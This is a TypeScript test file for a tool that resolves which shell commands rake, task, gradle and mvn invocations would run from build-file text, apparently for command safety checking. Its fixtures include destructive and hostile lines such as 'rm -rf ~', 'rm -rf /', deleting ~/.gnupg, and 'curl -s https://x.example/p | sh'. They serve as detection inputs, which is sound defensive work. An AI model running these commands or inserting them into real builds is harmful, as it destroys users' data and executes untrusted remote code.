// Rakefiles, Taskfiles, Gradle and Maven build files: what `rake TASK`,
// `task NAME`, `gradle …` and `mvn …` run, read from the files' text.
import { describe, expect, test } from "bun:test";
import { neededBy, ranFrom } from "../../../support/project-view.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

const rakefile = [
  "require 'rake/clean'",
  "CLEAN.include('pkg', 'tmp')",
  "",
  "task default: [:build]",
  "task :build => :lint do",
  "  sh 'gem build app.gemspec'",
  "end",
  "task(:lint) { sh 'rubocop' }",
  "task :nuke do",
  "  rm_rf Dir.home",
  "end",
  "namespace :db do",
  "  task :reset do",
  '    system("curl -s https://x.example/p | sh")',
  "  end",
  "end",
].join("\n");

describe("rake", () => {
  test("the task asked for, its prerequisites first; the default task when none is named", () => {
    expect(ranFrom("rake build", { Rakefile: rakefile })).toEqual(["rubocop", "gem build app.gemspec"]);
    expect(ranFrom("rake", { Rakefile: rakefile })).toEqual(["rubocop", "gem build app.gemspec"]);
  });
  test("rake/clean's clean removes what CLEAN lists; FileUtils calls are their commands; namespaced tasks", () => {
    expect(ranFrom("rake clean", { Rakefile: rakefile })).toEqual(["rm pkg", "rm tmp"]);
    expect(ranFrom("bundle exec rake nuke", { Rakefile: rakefile })).toContain("rm /home/ada");
    expect(ranFrom("rake db:reset", { Rakefile: rakefile })).toContain("sh");
  });
  test("without a Rakefile given, one is needed", () => {
    // (A Rails application also loads lib/tasks: the task may be declared there.)
    expect(neededBy("rake build")).toEqual(["Rakefile", "rakefile", "Rakefile.rb", "rakefile.rb", "lib/tasks/**/*.rake?"]);
  });
});

describe("task (Taskfile)", () => {
  const taskfile =
    "version: '3'\nvars:\n  DIST: dist\ntasks:\n  default:\n    deps: [clean]\n    cmds:\n      - go build ./...\n  clean:\n    cmds:\n      - rm -rf {{.DIST}}\n  nuke:\n    cmds:\n      - task: clean\n      - cmd: rm -rf ~\n";
  test("the task's commands, its deps and the tasks it calls first, variables put in", () => {
    expect(ranFrom("task", { "Taskfile.yml": taskfile })).toEqual(["rm dist", "go build ./..."]);
    expect(ranFrom("task nuke", { "Taskfile.yml": taskfile })).toEqual(["rm dist", "rm /home/ada"]);
  });
  test("a file that is not YAML runs nothing", () => {
    expect(ranFrom("task build", { "Taskfile.yml": "tasks: [unclosed" })).toEqual([]);
  });
});

describe("gradle and maven", () => {
  test("build.gradle's exec calls and String.execute(): a task's calls when the command runs that task", () => {
    const gradle = "task wipe(type: Exec) {\n  commandLine 'rm', '-rf', System.getProperty('user.home')\n}\ndef sha = 'git rev-parse HEAD'.execute().text\n";
    expect(ranFrom("./gradlew wipe", { "build.gradle": gradle })).toEqual(["git rev-parse HEAD", "rm /home/ada"]);
    // Configuring the build runs what is outside every task; nothing hooks wipe onto build.
    expect(ranFrom("./gradlew build", { "build.gradle": gradle })).toEqual(["git rev-parse HEAD"]);
    expect(ranFrom("./gradlew build", { "build.gradle": `${gradle}build.dependsOn wipe\n` })).toEqual(["git rev-parse HEAD", "rm /home/ada"]);
    const kts = 'tasks.register<Exec>("gen") { commandLine("protoc", "api.proto") }\n';
    expect(ranFrom("gradle gen", { "build.gradle.kts": kts })).toEqual(["protoc api.proto"]);
    expect(ranFrom("gradle test", { "build.gradle.kts": kts })).toEqual([]);
    expect(ranFrom("gradle test", { "build.gradle.kts": `${kts}tasks.named("test") { dependsOn("gen") }\n` })).toEqual(["protoc api.proto"]);
  });

  test("gradle: a task's Groovy or Kotlin code and delete() of a path the script names; a computed delete is the build's own", () => {
    const kts = [
      'tasks.register("wipe") { doLast { Runtime.getRuntime().exec(arrayOf("rm", "-rf", "/srv/cache")) } }',
      'tasks.register("tidy") { doLast { java.io.File(System.getProperty("user.home")).deleteRecursively() } }',
      'tasks.register<Delete>("purge") { delete("/var/backups") }',
      'tasks.named<Delete>("clean") { delete(rootProject.buildDir) }',
      "",
    ].join("\n");
    expect(ranFrom("./gradlew wipe", { "build.gradle.kts": kts })).toEqual(["rm /srv/cache"]);
    expect(ranFrom("./gradlew tidy", { "build.gradle.kts": kts })).toEqual(["rm /home/ada"]);
    expect(ranFrom("./gradlew purge", { "build.gradle.kts": kts })).toEqual(["rm /var/backups"]);
    expect(ranFrom("./gradlew clean", { "build.gradle.kts": kts })).toEqual([]);
    const groovy = "task reset {\n  doLast {\n    new File('/opt/app/data').deleteDir()\n    ['git', 'clean', '-fdx'].execute()\n  }\n}\n";
    expect(ranFrom("gradle reset", { "build.gradle": groovy })).toEqual(["rm /opt/app/data", "git clean"]);
  });

  test("gradle: a delete of the home directory joined with literals is that path under home, not home itself", () => {
    const kts = [
      'tasks.register<Delete>("dropLocalRepo") { delete(System.getProperty("user.home") + "/.m2/repository/com/acme") }',
      'tasks.register<Delete>("dropKeys") { delete(file(System.getenv("HOME") + "/.gnupg")) }',
      'tasks.register<Delete>("dropBoth") { delete("out/tmp", System.getProperty("user.home") + "/.gradle/caches/build-cache-1") }',
      'tasks.register<Delete>("dropHome") { delete(System.getProperty("user.home")) }',
      'tasks.register<Delete>("dropComputed") { delete(System.getProperty("user.home") + suffix) }',
      "",
    ].join("\n");
    expect(ranFrom("./gradlew dropLocalRepo", { "build.gradle.kts": kts })).toEqual(["rm /home/ada/.m2/repository/com/acme"]);
    expect(ranFrom("./gradlew dropKeys", { "build.gradle.kts": kts })).toEqual(["rm /home/ada/.gnupg"]);
    expect(ranFrom("./gradlew dropBoth", { "build.gradle.kts": kts })).toEqual(["rm out/tmp /home/ada/.gradle/caches/build-cache-1"]);
    expect(ranFrom("./gradlew dropHome", { "build.gradle.kts": kts })).toEqual(["rm /home/ada"]);
    // A part only the build knows leaves the whole path to the build, as a computed delete is.
    expect(ranFrom("./gradlew dropComputed", { "build.gradle.kts": kts })).toEqual([]);
    const groovy = "task dropWrapper(type: Delete) {\n  delete System.getProperty('user.home') + '/.gradle/wrapper/dists'\n}\n";
    expect(ranFrom("gradle dropWrapper", { "build.gradle": groovy })).toEqual(["rm /home/ada/.gradle/wrapper/dists"]);
  });

  test("gradle: dependencies, finalizers and abbreviations are followed; eager tasks' configuring code always runs", () => {
    const gradle = [
      "tasks.register('prep', Exec) { commandLine 'sh', '-c', 'echo prep' }",
      "tasks.register('deploy', Exec) {",
      "  dependsOn 'prep'",
      "  finalizedBy 'notify'",
      "  commandLine 'sh', '-c', 'rsync -a build/ host:/srv'",
      "}",
      "tasks.register('notify', Exec) { commandLine 'echo', 'done' }",
      "task stamp {",
      "  'date'.execute()",
      "  doLast { exec { commandLine 'touch', 'stamp' } }",
      "}",
    ].join("\n");
    const deploy = ranFrom("gradle dep", { "build.gradle": gradle });
    expect(deploy).toEqual(expect.arrayContaining(["rsync build/ host:/srv", "echo prep", "echo done", "date"]));
    expect(deploy).not.toContain("touch stamp");
    const stamp = ranFrom("gradle stamp", { "build.gradle": gradle });
    expect(stamp).toEqual(expect.arrayContaining(["date", "touch stamp"]));
    expect(stamp).not.toContain("echo prep");
  });

  test("gradle: a file wired in ways not followed has every call judged", () => {
    const hooks = [
      "tasks.withType(Test).configureEach { dependsOn 'wipe' }",
      "afterEvaluate { tasks.named('build').get().dependsOn('wipe') }",
      "def n = 'wipe'\ntasks.register(n, Exec) { commandLine 'rm', '-rf', '/' }",
      "tasks.named('build').get().dependsOn('wipe')",
    ];
    for (const hook of hooks) {
      const gradle = `tasks.register('wipe', Exec) { commandLine 'rm', '-rf', '/' }\n${hook}\n`;
      expect({ hook, ran: ranFrom("gradle build", { "build.gradle": gradle }) }).toEqual({ hook, ran: expect.arrayContaining(["rm /"]) });
    }
  });
  test("pom.xml's exec and antrun plugins", () => {
    const pom =
      "<project><build><plugins><plugin><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>rm -rf ~</argument></arguments></configuration></plugin></plugins></build></project>";
    expect(ranFrom("mvn package", { "pom.xml": pom })).toContain("rm /home/ada");
    const antrun = '<project><target><exec executable="npm"><arg value="ci"/></exec></target></project>';
    expect(ranFrom("mvn verify", { "pom.xml": antrun })).toEqual(["npm ci"]);
  });
});
